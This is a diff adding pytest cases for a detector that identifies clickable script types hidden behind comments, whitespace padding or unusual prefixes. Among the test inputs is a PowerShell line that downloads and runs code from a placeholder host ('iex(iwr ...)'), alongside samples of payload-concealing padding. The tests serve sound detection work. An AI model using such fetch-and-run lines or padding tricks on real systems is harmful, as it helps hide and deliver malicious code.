@@ -116,3 +116,50 @@ def test_no_text_makes_the_patterns_backtrack(opening: str, unit: str) -> None:
     before = time.process_time()
     family_of(text)
     assert time.process_time() - before < 1.0  # a backtracking pattern takes minutes, a linear one milliseconds
+
+
+LAUNCHER = "[InternetShortcut]\nURL=http://example.invalid\n"
+ENTRY = "[Desktop Entry]\nType=Application\nExec=true\n"
+JOB = '<job><script language="VBScript">MsgBox 1</script></job>'
+OBJECT = 'var s = new ActiveXObject("WScript.Shell");\ns.Run("true");\n'
+
+DISGUISED = [
+    ("text/javascript", "/* " + "lorem ipsum\n" * 2000 + "*/\n" + OBJECT),
+    ("text/javascript", "// a comment\n" * 2000 + OBJECT),
+    ("application/x-windows-script", "<!-- " + "x" * 30_000 + " -->" + JOB),
+    ("application/x-windows-script", '<?xml version="1.0"?><?job debug="true"?><!DOCTYPE job>' + JOB),
+    ("application/x-mswinurl", "; a comment\n" * 100 + LAUNCHER),
+    ("application/x-mswinurl", "[other]\n" + "a=b\n" * 60 + LAUNCHER),
+    ("application/x-mswinurl", "\n" * 20_000 + LAUNCHER),
+    ("application/x-desktop", "# a comment\n" * 100 + ENTRY),
+    ("application/x-desktop", "[Other]\nx=y\n" + ENTRY),
+    ("application/x-desktop", "#!/usr/bin/env xdg-open\n" + ENTRY),
+    ("application/x-bat", "@^e^c^h^o ^o^f^f\ncls\n"),
+    ("application/x-bat", "@(echo off)\nstart x\n"),
+    ("application/x-bat", ";@echo off\nstart x\n"),
+    ("application/x-bat", "@%~dp0\\x.exe\n"),
+    ("application/x-bat", '@if "%1"=="" exit\n'),
+    ("application/x-powershell", "<#\n" + "lorem ipsum\n" * 50 + "#>\n$a = 1\n"),
+    ("application/x-powershell", "iex(iwr http://example.invalid)\n"),
+    ("text/vbscript", "' a comment\n#@~^AAAAAA==xx^#~@\n"),
+    ("text/x-shellscript", "\n#!/bin/sh\ntrue\n"),
+]
+
+
+@pytest.mark.parametrize(("media_type", "text"), DISGUISED)
+def test_what_stands_in_front_does_not_hide_a_script(media_type: str, text: str) -> None:
+    assert script_type(text) == media_type
+
+
+HONEST_CODE = [
+    "program hello\n  implicit none\n  integer :: i\nend program\nsubroutine x\nend if\nend function\ndim a\n",
+    "# made by hand\nCC = gcc\nexport CC\nif x\nall: a.o\n\tgcc -o a a.o\nclean:\n\trm -f a.o\n",
+    "dnl A macro.\nAC_DEFUN([X],\nif test a; then\n  echo a\nfi\ncase b in\nesac\n",
+    "@import url(a.css);\n@media print { a { color: red } }\n",
+    "# Title\n\nSet the volume to two, then call your friend. Echo off the wall.\n",
+]
+
+
+@pytest.mark.parametrize("text", HONEST_CODE)
+def test_code_of_other_kinds_is_no_script_that_a_click_runs(text: str) -> None:
+    assert script_type(text) is None
